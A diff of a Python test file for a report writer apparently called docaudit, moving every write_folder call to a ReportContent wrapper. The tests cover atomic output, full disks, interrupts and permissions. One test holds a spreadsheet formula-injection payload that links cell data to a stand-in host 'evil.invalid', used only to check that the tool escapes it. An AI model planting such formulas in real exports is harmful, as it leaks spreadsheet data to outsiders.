@@ -13,7 +13,7 @@ import pytest
 
 from docaudit import saved as json_form
 from docaudit.errors import OutputError
-from docaudit.render.tables import write_folder
+from docaudit.report import ReportContent, write_folder
 from tests.factories import absent, hit, not_established, spot
 
 
@@ -23,7 +23,7 @@ def rows(path: Path) -> list[dict[str, str]]:
 
 def test_all_files_and_no_leftovers(tmp_path: Path) -> None:
     justification = not_established()
-    written = write_folder(justification, tmp_path / "new" / "out")
+    written = write_folder(ReportContent(justification), tmp_path / "new" / "out")
     assert sorted(p.name for p in (tmp_path / "new" / "out").iterdir()) == sorted(p.name for p in written)
     assert len(written) == 8
     assert json_form.load_justification(written[0]) == justification
@@ -36,7 +36,7 @@ def test_all_files_and_no_leftovers(tmp_path: Path) -> None:
 
 
 def test_tables_without_rows_still_have_their_columns(tmp_path: Path) -> None:
-    write_folder(absent(hits=(), blind_spots=()), tmp_path)
+    write_folder(ReportContent(absent(hits=(), blind_spots=())), tmp_path)
     assert (
         (tmp_path / "hits.csv")
         .read_text("utf-8-sig")
@@ -47,7 +47,10 @@ def test_tables_without_rows_still_have_their_columns(tmp_path: Path) -> None:
 
 def test_spreadsheets_get_no_formula(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.invalid/"&A1)'
-    write_folder(absent(hits=(hit(snippet=formula),), blind_spots=(spot(1, detail="@SUM(1)"),)), tmp_path)
+    write_folder(
+        ReportContent(absent(hits=(hit(snippet=formula),), blind_spots=(spot(1, detail="@SUM(1)"),))),
+        tmp_path,
+    )
     assert rows(tmp_path / "hits.csv")[0]["snippet"] == "'" + formula
     assert rows(tmp_path / "blind_spots.csv")[0]["detail"] == "'@SUM(1)"
 
@@ -55,11 +58,11 @@ def test_spreadsheets_get_no_formula(tmp_path: Path) -> None:
 def test_a_place_that_cannot_be_written(tmp_path: Path) -> None:
     (tmp_path / "file").write_text("in the way")
     with pytest.raises(OutputError):
-        write_folder(absent(), tmp_path / "file")
+        write_folder(ReportContent(absent()), tmp_path / "file")
 
 
 def test_all_files_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    write_folder(absent(), tmp_path / "old")
+    write_folder(ReportContent(absent()), tmp_path / "old")
     before = {file.name: file.read_bytes() for file in (tmp_path / "old").iterdir()}
     real, written = Path.write_text, []
 
@@ -73,7 +76,7 @@ def test_all_files_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> N
     for folder in ("old", "new"):
         written.clear()
         with pytest.raises(OutputError, match="No space left"):
-            write_folder(absent(hits=(hit(),)), tmp_path / folder)
+            write_folder(ReportContent(absent(hits=(hit(),))), tmp_path / folder)
     assert {file.name: file.read_bytes() for file in (tmp_path / "old").iterdir()} == before
     assert not (tmp_path / "new").exists()
 
@@ -81,7 +84,7 @@ def test_all_files_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> N
 def test_a_folder_in_the_way_of_a_file(tmp_path: Path) -> None:
     (tmp_path / "hits.csv").mkdir()
     with pytest.raises(OutputError, match="is a directory"):
-        write_folder(absent(), tmp_path)
+        write_folder(ReportContent(absent()), tmp_path)
     assert [file.name for file in tmp_path.iterdir()] == ["hits.csv"]
 
 
@@ -93,14 +96,14 @@ def test_a_full_disk_in_the_middle_of_a_large_pdf(tmp_path: Path) -> None:
     """The system itself refuses to write more: what was there before stays, and nothing of the new report is left."""
     large = tmp_path / "copy.pdf"
     large.write_bytes(b"%PDF-" + b"x" * 3_000_000)
-    write_folder(absent(), tmp_path / "old")
+    write_folder(ReportContent(absent()), tmp_path / "old")
     before = contents(tmp_path / "old")
     soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
     resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, hard))
     try:
         for folder in ("old", "new"):
             with pytest.raises(OutputError, match="cannot be written"):
-                write_folder(not_established(), tmp_path / folder, annotated=large)
+                write_folder(ReportContent(not_established()), tmp_path / folder, annotated=large)
     finally:
         resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
     assert contents(tmp_path / "old") == before
@@ -108,7 +111,7 @@ def test_a_full_disk_in_the_middle_of_a_large_pdf(tmp_path: Path) -> None:
 
 
 def test_an_interrupt_leaves_nothing_half_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    write_folder(absent(), tmp_path / "old")
+    write_folder(ReportContent(absent()), tmp_path / "old")
     before = contents(tmp_path / "old")
 
     def interrupted(*_: Any) -> None:
@@ -117,7 +120,7 @@ def test_an_interrupt_leaves_nothing_half_written(tmp_path: Path, monkeypatch: p
     monkeypatch.setattr(Path, "write_bytes", interrupted)  # in the middle: the workbook
     for folder in ("old", "new"):
         with pytest.raises(KeyboardInterrupt):
-            write_folder(not_established(), tmp_path / folder)
+            write_folder(ReportContent(not_established()), tmp_path / folder)
     assert contents(tmp_path / "old") == before
     assert not (tmp_path / "new").exists()
 
@@ -128,4 +131,4 @@ def test_a_folder_without_permission(tmp_path: Path, monkeypatch: pytest.MonkeyP
 
     monkeypatch.setattr(Path, "mkdir", refused)
     with pytest.raises(OutputError, match="Permission denied"):
-        write_folder(absent(), tmp_path / "out")
+        write_folder(ReportContent(absent()), tmp_path / "out")
